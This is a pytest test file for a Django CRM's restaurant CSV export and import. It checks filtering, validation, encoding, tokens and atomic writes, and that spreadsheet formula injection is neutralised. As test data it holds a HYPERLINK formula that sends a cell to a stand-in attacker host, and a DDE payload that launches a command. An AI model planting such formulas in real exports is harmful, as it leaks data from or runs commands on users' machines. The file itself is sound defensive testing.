"""CSV export (`/restaurants/export/`) and import (`/restaurants/import/`) of
restaurants with their main contact."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from contact.models import Contact
from core.spreadsheets import neutralise, restore
from crm import transfer
from restaurants.models import Restaurant, RestaurantStatusChange
from tests.restaurants.factories import CallPlanFactory, ContactFactory, RestaurantFactory

pytestmark = pytest.mark.django_db

HEADER = "name,status,assigned_to,phone,city,contact_name,contact_role,contact_phone\n"
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def upload(client, text, name="restaurants.csv"):
    data = text.encode("utf-8") if isinstance(text, str) else text
    return client.post(reverse("crm:import"), {"file": SimpleUploadedFile(name, data)})


def confirm(client, preview, skip=False):
    data = {"token": preview.context["token"]}
    if skip:
        data["skip_errors"] = "on"
    return client.post(reverse("crm:import_confirm"), data)


def read_export(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


# --- the neutraliser -------------------------------------------------------------------


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("+HYPERLINK(1)", "'+HYPERLINK(1)"),
        ("\t=x", "'\t=x"),
        ("+1 512 555 0143", "+1 512 555 0143"),
        ("-12.50", "-12.50"),
        ("Taco Haus", "Taco Haus"),
        (None, ""),
        (42, "42"),
    ],
)
def test_neutralise_and_restore(value, expected):
    assert neutralise(value) == expected
    assert restore(expected) == ("" if value is None else str(value))


# --- export ----------------------------------------------------------------------------------


def test_export_streams_the_filtered_list(owner_client, business, owner, other_business):
    taco = RestaurantFactory(
        business=business, name="Taco Haus", assigned_to=owner, phone="+15125550143"
    )
    ContactFactory(restaurant=taco, name="Maria Lopez", role="Owner", phone="+15125550111")
    ContactFactory(restaurant=taco, name="Second Person")
    CallPlanFactory(restaurant=taco)
    RestaurantFactory(business=business, name="Lost Cause", status="LOST")
    RestaurantFactory(business=other_business, name="Rival Diner")
    response = owner_client.get(reverse("crm:export"), {"status": "NEW", "q": "taco"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    assert response["Content-Disposition"].startswith('attachment; filename="restaurants-')
    rows = read_export(response)
    assert rows[0] == transfer.EXPORT_COLUMNS
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["name"] == "Taco Haus" and row["status"] == "New"
    assert row["assigned_to"] == owner.username
    assert row["phone"] == "(512) 555-0143"
    assert (row["contact_name"], row["contact_role"]) == ("Maria Lopez", "Owner")
    assert row["next_call"]


def test_export_neutralises_formulas(owner_client, business):
    RestaurantFactory(business=business, name=INJECTION, notes="@cmd")
    rows = read_export(owner_client.get(reverse("crm:export")))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["name"] == "'" + INJECTION and row["notes"] == "'@cmd"


def test_export_with_an_unreadable_filter_is_refused(owner_client):
    response = owner_client.get(reverse("crm:export"), {"status": "BOGUS"})
    assert response.status_code == 400


@pytest.mark.parametrize("rows", [3, 30])
def test_export_query_count_is_constant(
    owner_client, business, rows, django_assert_max_num_queries
):
    for _ in range(rows):
        ContactFactory(restaurant=RestaurantFactory(business=business))
    with django_assert_max_num_queries(5):  # session + user + membership + people + rows
        response = owner_client.get(reverse("crm:export"))
        assert len(read_export(response)) == rows + 1


# --- import ---------------------------------------------------------------------------------


def test_good_file_previews_then_imports(member_client, business, member, owner):
    existing = RestaurantFactory(
        business=business, name="Taco Haus", city="Austin", phone="+15125550143"
    )
    ContactFactory(restaurant=existing, name="Old Name", role="Chef")
    text = (
        HEADER
        + "Taco Haus Downtown,qualified,,512-555-0143,Austin,Maria Lopez,,\n"
        + f"Noodle Bar,New,{owner.username},,Round Rock,Ken Sato,Owner,(512) 555-0177\n"
        + "Pho Place,,,,Austin,,,\n"
    )
    preview = upload(member_client, text)
    assert preview.status_code == 200
    plan = preview.context["plan"]
    assert (plan.creates, plan.updates, plan.refused) == (2, 1, 0)
    content = preview.content.decode()
    assert "Taco Haus Downtown" in content and "Old Name" in content
    assert Restaurant.objects.count() == 1  # nothing written by the preview

    response = confirm(member_client, preview)
    assert response.status_code == 302 and response["Location"] == reverse("crm:home")
    existing.refresh_from_db()
    assert existing.name == "Taco Haus Downtown" and existing.status == "QUALIFIED"
    assert existing.contacts.get().name == "Maria Lopez"
    assert existing.contacts.get().role == "Chef"  # empty cells change nothing
    change = RestaurantStatusChange.objects.get(restaurant=existing)
    assert (change.to_status, change.note, change.changed_by) == ("QUALIFIED", "CSV import", member)
    noodle = Restaurant.objects.get(name="Noodle Bar")
    assert noodle.assigned_to == owner and noodle.timezone == business.timezone
    assert noodle.contacts.get().phone == "+15125550177"
    pho = Restaurant.objects.get(name="Pho Place")
    assert pho.assigned_to == member and pho.status == "NEW"
    follow = member_client.get(reverse("crm:home"))
    assert b"2 restaurants added, 1 updated" in follow.content


def test_matched_by_name_and_city_when_no_phone(owner_client, business):
    existing = RestaurantFactory(business=business, name="Taco Haus", city="Austin", phone="")
    RestaurantFactory(business=business, name="Taco Haus", city="Dallas", phone="")
    preview = upload(owner_client, "name,city,cuisine\nTACO HAUS,austin,Mexican\n")
    row = preview.context["plan"].rows[0]
    assert row.action == "update" and row.restaurant == existing
    confirm(owner_client, preview)
    existing.refresh_from_db()
    assert existing.cuisine == "Mexican"


def test_bad_file_writes_nothing(owner_client, business):
    RestaurantFactory(business=business, name="Twin", city="Austin", phone="")
    RestaurantFactory(business=business, name="Twin", city="Austin", phone="")
    text = (
        HEADER
        + ",,,,Austin,,,\n"  # no name
        + "Bad Phone,New,,12,Austin,,,\n"
        + "Bad Status,Won,,,Austin,,,\n"
        + "Nobody Here,New,ghost,,Austin,,,\n"
        + "Twin,New,,,Austin,,,\n"  # matches two restaurants
        + "Bad Contact,New,,,Austin,,Chef,12\n"
    )
    preview = upload(owner_client, text)
    plan = preview.context["plan"]
    assert plan.refused == 6 and plan.writable == 0
    content = preview.content.decode()
    for reason in (
        "Name: This field is required.",
        "Enter a valid phone number",
        "Status “Won” is not one of",
        "Account manager “ghost” is not a member",
        "Matches 2 restaurants",
        "Contact name: This field is required.",
    ):
        assert reason in content, reason
    response = confirm(owner_client, preview, skip=True)
    assert response.status_code == 302
    assert Restaurant.objects.count() == 2 and not Contact.objects.exists()


def test_mixed_file_needs_the_choice_to_skip(owner_client, business):
    text = "name,phone,notes\nGood One,,\nBad One,12,\nGood Two,,\n"
    preview = upload(owner_client, text)
    plan = preview.context["plan"]
    assert (plan.creates, plan.refused) == (2, 1)
    response = confirm(owner_client, preview)
    assert response.status_code == 400
    assert b"tick this box" in response.content
    assert not Restaurant.objects.exists()
    response = confirm(owner_client, preview, skip=True)
    assert response.status_code == 302
    assert sorted(Restaurant.objects.values_list("name", flat=True)) == ["Good One", "Good Two"]


def test_duplicate_rows_in_one_file(owner_client):
    text = "name,phone\nTaco,512-555-0143\nTaco again,(512) 555-0143\n"
    plan = upload(owner_client, text).context["plan"]
    assert plan.rows[1].errors == ["The same restaurant as line 2."]


def test_formula_cell_is_imported_as_text_and_exported_neutralised(owner_client, business):
    text = f'name,notes\n"{INJECTION.replace(chr(34), chr(34) * 2)}",@SUM(1)\n'
    preview = upload(owner_client, text)
    assert preview.context["plan"].creates == 1
    confirm(owner_client, preview)
    restaurant = Restaurant.objects.get()
    assert restaurant.name == INJECTION
    rows = read_export(owner_client.get(reverse("crm:export")))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["name"] == "'" + INJECTION and row["notes"] == "'@SUM(1)"
    # ... and the exported file imports back to the same text.
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    again = upload(owner_client, buffer.getvalue()).context["plan"]
    assert again.updates == 1 and again.rows[0].changes == []


@pytest.mark.parametrize(
    "content,message",
    [
        (b"", "The submitted file is empty."),
        (b"\n\n", "The file is empty."),
        (b"city,phone\nAustin,\n", "at least “name”"),
        (b"name\n", "no restaurants"),
        (b"name,name\nA,B\n", "appear twice"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "not a CSV file"),
        (b"name\n" + b"x\n" * (transfer.MAX_ROWS + 1), "more than 2,000 restaurants"),
        (b"name\n" + b"x" * transfer.MAX_BYTES, "import at most 1 MB"),
    ],
)
def test_unreadable_files_are_refused(owner_client, content, message):
    response = upload(owner_client, content)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Restaurant.objects.exists()


def test_excel_files_in_windows_1252_and_semicolons(owner_client):
    text = "name;city\nCafé Olé;Montréal\n".encode("cp1252")
    plan = upload(owner_client, text).context["plan"]
    assert plan.rows[0].values == {"name": "Café Olé", "city": "Montréal"}


def test_the_token_is_bound_to_the_user_and_cannot_be_altered(
    owner_client, member_client, business
):
    preview = upload(owner_client, "name\nTaco\n")
    token = preview.context["token"]
    response = member_client.post(reverse("crm:import_confirm"), {"token": token}, follow=True)
    assert b"upload the file again" in response.content
    response = owner_client.post(reverse("crm:import_confirm"), {"token": token[:-2] + "xx"})
    assert response.status_code == 302 and response["Location"] == reverse("crm:import")
    assert not Restaurant.objects.exists()


def test_import_is_atomic(owner_client, business, monkeypatch):
    preview = upload(owner_client, "name\nFirst\nSecond\n")
    from restaurants import services

    real = services.restaurant_create
    calls = []

    def failing(**kwargs):
        calls.append(kwargs["name"])
        if len(calls) == 2:
            raise RuntimeError("disk full")
        return real(**kwargs)

    monkeypatch.setattr(services, "restaurant_create", failing)
    owner_client.raise_request_exception = False
    response = confirm(owner_client, preview)
    assert response.status_code == 500
    assert not Restaurant.objects.exists()


def test_import_page_lists_the_columns(owner_client):
    content = owner_client.get(reverse("crm:import")).content.decode()
    for column in transfer.IMPORT_COLUMNS:
        assert f"<code>{column}</code>" in content
